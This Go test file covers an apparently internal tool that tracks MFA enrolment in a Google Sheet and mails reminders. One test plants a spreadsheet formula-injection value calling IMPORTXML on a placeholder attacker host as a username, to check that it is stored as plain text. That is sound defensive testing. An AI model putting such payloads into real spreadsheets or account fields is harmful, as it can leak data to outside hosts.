package activities_test

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/sync/errgroup"
	"google.golang.org/api/sheets/v4"

	"gatehouse/activities/api"
	"gatehouse/activities/gsuite"
	"gatehouse/connectors/onelogin"
	"gatehouse/internal/config"
	"gatehouse/sandbox/control"
)

func trackingWrites() []writer {
	return []writer{{
		arrange: func(r *rig) any {
			uncovered(r, "workday-21010")
			return api.MFATrackInput{}
		},
		ops: []string{"google.drive.create_file", "google.sheets.batch_update", "google.sheets.batch_update_values", "google.drive.create_permission"},
		effects: []string{
			"google.drive.create_file: spreadsheet created",
			`google.sheets.batch_update: tab "MFA tracking" added; 11 cells of "MFA tracking" changed; tab "Sheet1" deleted`,
			`google.sheets.batch_update_values: 45 cells of "MFA tracking" changed`,
			"google.drive.create_permission: shared as reader",
		},
	}}
}

func mfaLetters() []writer {
	return []writer{{
		arrange: func(r *rig) any {
			in := uncovered(r, "workday-21010")
			return api.MFALetterInput{
				OnceKey: "mfa/1/1/remind-1/mail", Key: in.Key, AccountID: in.AccountID, Kind: api.MessageMFARemind, Text: "please enrol",
			}
		},
		ops:     []string{"google.gmail.create_draft", "google.gmail.send_draft"},
		effects: []string{"google.gmail.create_draft: draft created", "google.gmail.send_draft: mail sent to 1"},
	}}
}

func (r *rig) track(account int64) api.MFATracked {
	r.t.Helper()
	var out api.MFATracked
	require.NoError(r.t, r.must(api.MFATrack, api.MFATrackInput{AccountID: account}).Get(&out))
	return out
}

// TestTrackingSheetHasOneRowEach writes everybody, and then one of them again in place.
func TestTrackingSheetHasOneRowEach(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	in := uncovered(r, "workday-21010")
	formula := `=IMPORTXML("https://evil.example")@acme.example`
	_, err := r.vendors.OneLogin.UpdateUser(t.Context(), in.AccountID, onelogin.UserChange{Username: &formula})
	require.NoError(t, err)
	r.clock.Advance(6 * day)
	r.scan("second")
	wrote := r.track(0)
	rows, err := r.app.Ledger.MFA().Tracked(t.Context(), 0, 1000)
	require.NoError(t, err)
	require.Equal(t, len(rows), wrote.Rows)
	require.NotEmpty(t, wrote.URL)
	sheets := r.sheetsOf()
	require.Len(t, sheets, 1)
	tab := sheets[0].Tabs[0]
	require.Len(t, sheets[0].Tabs, 1)
	require.Empty(t, tab.Formulas, "a name that looks like a formula stays a name")
	require.Equal(t, "Person", tab.Values[0][0])
	for _, s := range rows {
		require.Equal(t, s.Key, tab.Values[s.Row-1][0])
	}
	state, _, err := r.app.Ledger.MFA().State(t.Context(), in.AccountID)
	require.NoError(t, err)
	require.Equal(t, formula, tab.Values[state.Row-1][2])

	r.restart()
	mark := r.mark()
	require.Equal(t, wrote.Rows, r.track(0).Rows)
	require.Empty(t, r.effects(mark), "the same rows again change nothing")
	r.must(api.MFAMove, api.MFAMoveInput{AccountID: in.AccountID, Clock: 1, Stage: "escalated", Reminders: 5, Record: api.RecordInput{Key: in.Key}})
	require.Equal(t, 1, r.track(in.AccountID).Rows)
	require.Equal(t, "escalated", r.sheetsOf()[0].Tabs[0].Values[state.Row-1][4])
	require.Len(t, r.sheetsOf()[0].Tabs[0].Values, len(tab.Values))
}

// TestTrackingTabThatSomebodyDeletedIsMadeAnew holds that a process which remembers the tab does not write into nothing for as
// long as it lives.
func TestTrackingTabThatSomebodyDeletedIsMadeAnew(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	in := uncovered(r, "workday-21010")
	r.track(0)
	before := r.sheetsOf()[0]
	google := r.vendors.Activities.Sheets.Client.Sheets.Spreadsheets
	_, err := google.BatchUpdate(before.ID, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		{AddSheet: &sheets.AddSheetRequest{Properties: &sheets.SheetProperties{Title: "mine"}}},
		{DeleteSheet: &sheets.DeleteSheetRequest{SheetId: before.Tabs[0].ID}},
	}}).Context(t.Context()).Do()
	require.NoError(t, err)
	require.Nil(t, r.sheetsOf()[0].Tab("MFA tracking"))

	require.Equal(t, 1, r.track(in.AccountID).Rows)
	state, _, err := r.app.Ledger.MFA().State(t.Context(), in.AccountID)
	require.NoError(t, err)
	tab := r.sheetsOf()[0].Tab("MFA tracking")
	require.NotNil(t, tab)
	require.Equal(t, in.Key, tab.Values[state.Row-1][0])
	require.NotNil(t, r.sheetsOf()[0].Tab("mine"), "what others made stays")
}

// TestNothingIsTrackedWhileObserving holds that a template that only observes writes to no vendor.
// TestTwoTabsForANewSpreadsheet at the same moment: each of them would take the place of the empty tab.
func TestTwoTabsForANewSpreadsheet(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	s := r.vendors.Activities.Sheets
	made, err := s.EnsureSpreadsheet(t.Context(), "new", "New")
	require.NoError(t, err)
	r.fault(control.Fault{System: "google", Op: "google.sheets.batch_update", When: "before", Style: "delay", DelayMS: 300, Times: 2})
	var group errgroup.Group
	for id, title := range map[int64]string{7: "September", 8: "October"} {
		group.Go(func() error {
			_, err := s.EnsureTab(t.Context(), made, gsuite.Tab{ID: id, Title: title, Rows: 3, Columns: 3})
			return err
		})
	}
	require.NoError(t, group.Wait())
	book := r.sheetsOf()[0]
	require.Len(t, book.Tabs, 2)
	require.NotNil(t, book.Tab("September"))
	require.NotNil(t, book.Tab("October"))
}

func TestNothingIsTrackedWhileObserving(t *testing.T) {
	t.Parallel()
	for name, o := range map[string]rigOptions{
		"observing":      {policy: []string{"mfa: enforce", "mfa: observe"}},
		"without Google": {config: func(c *config.Config) { c.Google = config.Google{} }},
	} {
		r := newRig(t, o)
		in := uncovered(r, "workday-21010")
		mark := r.mark()
		require.True(t, r.track(0).Off, name)
		require.True(t, r.track(in.AccountID).Off, name)
		require.Empty(t, r.effects(mark), name)
	}
}

// TestLetterNeedsAnAddress holds that the caller is told when a person cannot be mailed.
func TestLetterNeedsAnAddress(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	var out api.MFALettered
	require.NoError(t, r.must(api.MFALetter, api.MFALetterInput{OnceKey: "k", AccountID: 999_999}).Get(&out))
	require.False(t, out.Sent)
	require.Empty(t, r.mails(), fmt.Sprint(out))
}
